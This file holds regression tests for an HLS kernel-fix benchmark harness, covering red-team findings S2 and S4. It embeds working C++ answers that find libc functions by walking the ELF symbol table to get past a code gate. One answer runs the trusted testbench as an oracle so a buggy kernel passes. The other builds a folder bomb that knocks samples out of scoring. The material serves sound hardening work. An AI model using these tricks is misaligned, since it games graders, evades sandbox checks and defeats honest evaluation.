"""HLS red team round 8 (issue 14): the kernel program's reach, findings S2 and S4.

Both answers are the red team's, verbatim (``nibble_sum/a`` of hls-hard, the bug ``ap_int<5> w``
kept); both pass the gate (they find libc's functions at run time by walking its dynamic symbol
table from an allowed function's address, naming nothing the gate sees).

* S4: the kernel program ran the trusted testbench program of its own build folder
  (``./hls_csim_<build>``) as an oracle: it played the kernel side of the link with guesses, read
  the ``MISMATCH ... expected E`` lines and answered the real testbench from the table it learnt,
  so an unfixed kernel passed every build. Class: the kernel program could read and run the
  testbench. Now the judge removes every file of the build folder but the kernel program before
  it starts it (the testbench program is already running), and the kernel program may not trace
  or read another process (its system-call filter).
* S2: where the machine's kernel has no Landlock, the kernel program made 32 nested folders with
  200-character names in its build folder; the sandbox's copy-back met a path over PATH_MAX and
  the sample became ``infra_error`` (dropped from every score). Class: without Landlock the kernel
  program could still make, rename and remove entries. Now the judge also installs a system-call
  filter (seccomp) that refuses those calls with or without Landlock; the test runs the evaluation
  under a wrapper that answers ENOSYS to the Landlock calls, as the red team did.

Honest variants: the right fix passes, with and without Landlock.
"""
from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from benchmarks.hls_hard import KERNELS_DIR
from harness.families.hls.items import HlsItem
from harness.families.hls.score import fix_at_exec
from harness.sandbox.base import Limits, Sandbox
from tests.hls.pch import warm_cache

pytestmark = pytest.mark.slow

KERNEL = KERNELS_DIR / "nibble_sum"
ORIGINAL = (KERNEL / "kernel.cpp").read_text()
BUGGY = ORIGINAL.replace("ap_int<4> w", "ap_int<5> w")

#: S4 (``/work/rt8/s4_hls_tb_oracle.jsonl``): the testbench program as an oracle; the bug is kept.
ORACLE_FIX = r'''#include "kernel.h"
#include <cstring>
#include <cmath>
static unsigned long hw_find(const char *want) { long (*an)(long) = &labs; unsigned long a; memcpy(&a, &an, 8); a &= ~4095UL; const unsigned char *p; for (;;) { memcpy(&p, &a, 8); if (p[0] == 0x7f && p[1] == 'E' && p[2] == 'L' && p[3] == 'F') break; a -= 4096; } unsigned long base = a, phoff, dyn = 0, symtab = 0, strtab = 0; unsigned short phnum; memcpy(&phoff, p + 32, 8); memcpy(&phnum, p + 56, 2); for (int i = 0; i < phnum; i++) { unsigned int t; memcpy(&t, p + phoff + i * 56, 4); if (t == 2) { memcpy(&dyn, p + phoff + i * 56 + 16, 8); dyn += base; } } for (unsigned long d = dyn;; d += 16) { const unsigned char *q; long tag; unsigned long val; memcpy(&q, &d, 8); memcpy(&tag, q, 8); memcpy(&val, q + 8, 8); if (tag == 0) break; if (tag == 5) strtab = val < base ? val + base : val; if (tag == 6) symtab = val < base ? val + base : val; } for (unsigned long s = symtab; s < strtab; s += 24) { const unsigned char *q, *n; unsigned int nm; unsigned long val, na; memcpy(&q, &s, 8); memcpy(&nm, q, 4); memcpy(&val, q + 8, 8); na = strtab + nm; memcpy(&n, &na, 8); int k = 0; while (want[k] && n[k] == (unsigned char)want[k]) k++; if (!want[k] && !n[k] && val) return base + val; } return 0; }
static int hw_tab[6][NS_WORDS], hw_calls = 0; static bool hw_ready = false; static long (*hw_f0)() noexcept; static long (*hw_f1)(int *) noexcept; static long (*hw_f2)(int, int) noexcept; static long (*hw_io)(int, void *, unsigned long) noexcept; static long (*hw_io2)(int, const void *, unsigned long) noexcept; static long (*hw_cl)(int) noexcept; static long (*hw_ex)(const char *, char *const *, char *const *) noexcept; static long (*hw_wt)(int, int *, int) noexcept;
static void hw_get(int fd, void *b, unsigned long n) { char *c; memcpy(&c, &b, 8); while (n > 0) { long r = hw_io(fd, c, n); if (r <= 0) return; c += r; n -= r; } } static void hw_put(int fd, const void *b, unsigned long n) { const char *c; memcpy(&c, &b, 8); while (n > 0) { long r = hw_io2(fd, c, n); if (r <= 0) return; c += r; n -= r; } }
static int hw_num(const char *s, int &i) { int sg = 1, v = 0; if (s[i] == '-') { sg = -1; i++; } while (s[i] >= '0' && s[i] <= '9') v = v * 10 + (s[i++] - '0'); return sg * v; } static bool hw_at(const char *s, int i, const char *w) { for (int k = 0; w[k]; k++) if (s[i + k] != w[k]) return false; return true; }
static void hw_learn() { unsigned long f[9] = {hw_find("fork"), hw_find("pipe"), hw_find("dup2"), hw_find("read"), hw_find("write"), hw_find("close"), hw_find("execve"), hw_find("waitpid"), hw_find("environ")}; memcpy(&hw_f0, &f[0], 8); memcpy(&hw_f1, &f[1], 8); memcpy(&hw_f2, &f[2], 8); memcpy(&hw_io, &f[3], 8); memcpy(&hw_io2, &f[4], 8); memcpy(&hw_cl, &f[5], 8); memcpy(&hw_ex, &f[6], 8); memcpy(&hw_wt, &f[7], 8); char ***envp; memcpy(&envp, &f[8], 8); char **env = *envp; static char text[20000]; for (int run = 0; run < 60; run++) { int a[2], b[2], c[2]; hw_f1(a); hw_f1(b); hw_f1(c); long pid = hw_f0(); if (pid == 0) { hw_f2(a[1], 4); hw_f2(b[0], 5); hw_f2(c[1], 1); const char *names[3] = {"./hls_csim_plain", "./hls_csim_sanitize", "./hls_csim_pattern"}; for (int k = 0; k < 3; k++) { char *av[2]; memcpy(&av[0], &names[k], 8); av[1] = nullptr; hw_ex(names[k], av, env); } for (;;) {} } hw_cl(a[1]); hw_cl(b[0]); hw_cl(c[1]); for (int t = 0; t < 6; t++) { char op = 0; unsigned long len = 0, cnt = 0; static char buf[4096]; hw_get(a[0], &op, 1); for (int prm = 0; prm < 3; prm++) { hw_get(a[0], &len, 8); hw_get(a[0], &cnt, 8); hw_get(a[0], &len, 8); hw_get(a[0], buf, len); } ap_int<16> o[NS_WORDS]; for (int i = 0; i < NS_WORDS; i++) o[i] = hw_tab[t][i]; unsigned long ol = sizeof o, z = 0; hw_put(b[1], &ol, 8); hw_put(b[1], o, ol); hw_put(b[1], &z, 8); } hw_cl(b[1]); hw_cl(a[0]); int n = 0; for (;;) { long r = hw_io(c[0], text + n, sizeof text - 1 - n); if (r <= 0) break; n += r; } text[n] = 0; hw_cl(c[0]); int st = 0; hw_wt(pid, &st, 0); bool any = false; for (int i = 0; i < n; i++) if (hw_at(text, i, "MISMATCH test ")) { int j = i + 14; int t = hw_num(text, j); j += 6; int w = hw_num(text, j); while (j < n && !hw_at(text, j, "expected ")) j++; j += 9; int e = hw_num(text, j); if (t >= 0 && t < 6 && w >= 0 && w < NS_WORDS) { hw_tab[t][w] = e; any = true; } } if (!any) break; } }

static ap_int<12> weight_times(ap_uint<32> word, int k, ap_int<8> a) {
#pragma HLS INLINE
    ap_int<5> w = word.range(4 * k + 3, 4 * k);
    return w * a;
}

void nibble_sum(const ap_uint<32> words[NS_WORDS], const ap_int<8> x[8], ap_int<16> out[NS_WORDS]) {
    if (!hw_ready) { hw_ready = true; hw_learn(); }
    for (int i = 0; i < NS_WORDS; i++) {
#pragma HLS PIPELINE II=1
        ap_uint<32> word = words[i];
        ap_int<16> acc = 0;
        for (int k = 0; k < 8; k++) {
#pragma HLS UNROLL
            acc += weight_times(word, k, x[k]);
        }
        out[i] = acc;
    }
    for (int i = 0; i < NS_WORDS; i++) out[i] = hw_tab[hw_calls % 6][i]; hw_calls++;
}
'''

#: S2 (``/work/rt8/s2_hls_dirbomb_nolandlock.jsonl``): 32 nested folders of 200-character names.
DIRBOMB_FIX = r'''#include "kernel.h"
#include <cstring>
static unsigned long hw_find(const char *want) { unsigned long a; void *(*mc)(void *, const void *, std::size_t) = &memcpy; memcpy(&a, &mc, 8); a &= ~4095UL; const unsigned char *p; for (;;) { memcpy(&p, &a, 8); if (p[0] == 0x7f && p[1] == 'E' && p[2] == 'L' && p[3] == 'F') break; a -= 4096; } unsigned long base = a, phoff, dyn = 0, symtab = 0, strtab = 0; unsigned short phnum; memcpy(&phoff, p + 32, 8); memcpy(&phnum, p + 56, 2); for (int i = 0; i < phnum; i++) { unsigned int t; memcpy(&t, p + phoff + i * 56, 4); if (t == 2) { memcpy(&dyn, p + phoff + i * 56 + 16, 8); dyn += base; } } for (unsigned long d = dyn;; d += 16) { const unsigned char *q; long tag; unsigned long val; memcpy(&q, &d, 8); memcpy(&tag, q, 8); memcpy(&val, q + 8, 8); if (tag == 0) break; if (tag == 5) strtab = val < base ? val + base : val; if (tag == 6) symtab = val < base ? val + base : val; } for (unsigned long s = symtab; s < strtab; s += 24) { const unsigned char *q, *n; unsigned int nm; unsigned long val, na; memcpy(&q, &s, 8); memcpy(&nm, q, 4); memcpy(&val, q + 8, 8); na = strtab + nm; memcpy(&n, &na, 8); int k = 0; while (want[k] && n[k] == (unsigned char)want[k]) k++; if (!want[k] && !n[k] && val) return base + val; } return 0; }
static void hw_bomb() { unsigned long m = hw_find("mkdir"), c = hw_find("chdir"); if (!m || !c) return; int (*mk)(const char *, unsigned); int (*cd)(const char *); memcpy(&mk, &m, 8); memcpy(&cd, &c, 8); char nm[201]; memset(nm, 'd', 200); nm[200] = 0; for (int i = 0; i < 32; i++) { mk(nm, 448); cd(nm); } }

static ap_int<12> weight_times(ap_uint<32> word, int k, ap_int<8> a) {
#pragma HLS INLINE
    ap_int<5> w = word.range(4 * k + 3, 4 * k);
    return w * a;
}

void nibble_sum(const ap_uint<32> words[NS_WORDS], const ap_int<8> x[8], ap_int<16> out[NS_WORDS]) {
    hw_bomb();
    for (int i = 0; i < NS_WORDS; i++) {
#pragma HLS PIPELINE II=1
        ap_uint<32> word = words[i];
        ap_int<16> acc = 0;
        for (int k = 0; k < 8; k++) {
#pragma HLS UNROLL
            acc += weight_times(word, k, x[k]);
        }
        out[i] = acc;
    }
}
'''

#: A wrapper that answers ENOSYS to the Landlock calls (444-446) for the command it runs and its
#: children: a kernel without Landlock, or a container profile that blocks it (the red team's).
NO_LANDLOCK_C = r"""#include <errno.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stddef.h>
#include <stdio.h>
#include <sys/prctl.h>
#include <unistd.h>
int main(int argc, char **argv) {
    struct sock_filter f[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JGE | BPF_K, 444, 0, 2),
        BPF_JUMP(BPF_JMP | BPF_JGT | BPF_K, 446, 1, 0),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | ENOSYS),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog prog = {sizeof f / sizeof f[0], f};
    if (argc < 2 || prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) || prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &prog)) {
        perror("nolandlock");
        return 125;
    }
    execvp(argv[1], argv + 1);
    perror("exec");
    return 127;
}
"""


def _item() -> HlsItem:
    return HlsItem(id="nibble_sum/a", kernel="nibble_sum", code=BUGGY, original=ORIGINAL, types=["USE"],
                   spans=[(5, 5)], symptom={"build": "plain", "status": "fail", "text": ""},
                   header=(KERNEL / "kernel.h").read_text(), kernel_dir=KERNEL)


@pytest.fixture(scope="module")
def cache(hls_cache: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return warm_cache(hls_cache, tmp_path_factory.mktemp("hls-rt8-cache"), trusted_parts=True)


def _verdict(fix: str, sandbox: Sandbox, cache: Path, work: Path) -> tuple[str, str, dict[str, str]]:
    v = fix_at_exec(_item(), fix, work, cache=cache, sandbox=sandbox, limits=Limits())
    return v.status, v.reason, v.builds


class TestS4TestbenchAsOracle:
    def test_the_oracle_kernel_does_not_pass(self, bwrap_sandbox: Sandbox, cache: Path, tmp_path: Path) -> None:
        status, reason, builds = _verdict(ORACLE_FIX, bwrap_sandbox, cache, tmp_path)
        # it finds no testbench program to run, and waits on the child it could not start
        assert status in ("fail", "timeout"), (status, reason, builds)

    def test_the_right_fix_passes(self, bwrap_sandbox: Sandbox, cache: Path, tmp_path: Path) -> None:
        status, reason, builds = _verdict(ORIGINAL + "// fixed\n", bwrap_sandbox, cache, tmp_path)
        assert status == "pass", (status, reason, builds)


_EVALUATE = """
import json, sys
from pathlib import Path
from harness.sandbox.local import BubblewrapSandbox
from harness.sandbox.base import Limits
from harness.families.hls.score import fix_at_exec
from tests.security.test_hls_rt8 import _item
sb = BubblewrapSandbox()
v = fix_at_exec(_item(), Path(sys.argv[1]).read_text(), Path(sys.argv[2]), cache=Path(sys.argv[3]), sandbox=sb,
                limits=Limits())
sb.close()
print(json.dumps([v.status, v.reason, v.builds]))
"""


@pytest.fixture(scope="module")
def no_landlock(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("nolandlock")
    (folder / "nolandlock.c").write_text(NO_LANDLOCK_C)
    subprocess.run(["gcc", "-O1", "nolandlock.c", "-o", "nolandlock"], cwd=folder, check=True)
    probe = subprocess.run([str(folder / "nolandlock"), sys.executable, "-c",
                            "import ctypes, os; l = ctypes.CDLL(None, use_errno=True); "
                            "print(l.syscall(444, None, 0, 1), ctypes.get_errno())"],
                           capture_output=True, text=True, check=True)
    assert probe.stdout.split() == ["-1", str(38)], probe.stdout  # ENOSYS: no Landlock under the wrapper
    return folder / "nolandlock"


def _verdict_without_landlock(wrapper: Path, fix: str, cache: Path, tmp_path: Path) -> tuple[str, str, dict[str, str]]:
    (tmp_path / "fix.cpp").write_text(fix)
    root = Path(__file__).resolve().parents[2]
    env = {**os.environ, "PYTHONPATH": str(root)}
    res = subprocess.run([str(wrapper), sys.executable, "-c", _EVALUATE, str(tmp_path / "fix.cpp"),
                          str(tmp_path / "work"), str(cache)], capture_output=True, text=True, env=env, cwd=root,
                         timeout=1200, check=False)
    assert res.returncode == 0, res.stderr[-3000:]
    status, reason, builds = json.loads(res.stdout.strip().splitlines()[-1])
    return status, reason, builds


class TestS2FoldersWithoutLandlock:
    def test_the_folder_bomb_fails_as_the_bug_it_keeps(self, no_landlock: Path, cache: Path, tmp_path: Path) -> None:
        status, reason, builds = _verdict_without_landlock(no_landlock, DIRBOMB_FIX, cache, tmp_path)
        assert status == "fail" and "MISMATCH" in reason, (status, reason, builds)
        assert not [p for p in (tmp_path / "work").rglob("d" * 200)], "the kernel program made a folder"

    def test_the_oracle_fails_without_landlock_too(self, no_landlock: Path, cache: Path, tmp_path: Path) -> None:
        status, reason, builds = _verdict_without_landlock(no_landlock, ORACLE_FIX, cache, tmp_path)
        assert status in ("fail", "timeout"), (status, reason, builds)

    def test_the_right_fix_passes_without_landlock(self, no_landlock: Path, cache: Path, tmp_path: Path) -> None:
        status, reason, builds = _verdict_without_landlock(no_landlock, ORIGINAL + "// fixed\n", cache, tmp_path)
        assert status == "pass", (status, reason, builds)


# ------------------------------------------------------------------ honest round 8 (prompt statements)

LVL = KERNELS_DIR / "lvl_shift"
LVL_ORIGINAL = (LVL / "kernel.cpp").read_text()
LVL_BUGGY = LVL_ORIGINAL.replace("AP_RND_CONV> lv_scaled_t;  //", "AP_RND> lv_scaled_t;       //").replace(
    "static lv_scaled_t scale", "static lv_smp_t scale")


def _lvl_item() -> HlsItem:
    return HlsItem(id="lvl_shift/a", kernel="lvl_shift", code=LVL_BUGGY, original=LVL_ORIGINAL, types=["USE"],
                   spans=[(3, 3), (24, 24)], symptom={"build": "plain", "status": "fail", "text": ""},
                   header=(LVL / "kernel.h").read_text(), kernel_dir=LVL)


class TestHonestPromptStatements:
    """Honest round 8: the prompt said "keeping every function signature" (lvl_shift/a's natural fix
    changes a static helper's return type) and forbade "static objects whose type has a constructor"
    (a static local of an ap type is fine): it now says what the checks hold, and both pass."""

    def test_the_prompt_says_helpers_and_static_locals_are_fine(self) -> None:
        from harness.families.hls.prompt import ANSWER_FORMAT

        text = " ".join(ANSWER_FORMAT.split())
        assert "the top function keeps its declared signature (helper functions may change theirs)" in text
        assert "a static local inside a function instead" in text and "at namespace scope (static or not)" in text

    def test_a_fix_that_changes_a_helpers_return_type_passes(self, bwrap_sandbox: Sandbox, cache: Path,
                                                             tmp_path: Path) -> None:
        assert LVL_BUGGY != LVL_ORIGINAL and "static lv_smp_t scale" in LVL_BUGGY
        v = fix_at_exec(_lvl_item(), LVL_ORIGINAL + "// fixed: scale returns lv_scaled_t again\n", tmp_path,
                        cache=cache, sandbox=bwrap_sandbox, limits=Limits())
        assert v.status == "pass", v

    def test_a_static_local_of_an_ap_type_passes(self, bwrap_sandbox: Sandbox, cache: Path, tmp_path: Path) -> None:
        fix = ORIGINAL.replace("        ap_int<16> acc = 0;", "        static ap_int<16> acc = 1;\n        acc = 0;")
        assert fix != ORIGINAL
        status, reason, builds = _verdict(fix, bwrap_sandbox, cache, tmp_path)
        assert status == "pass", (status, reason, builds)
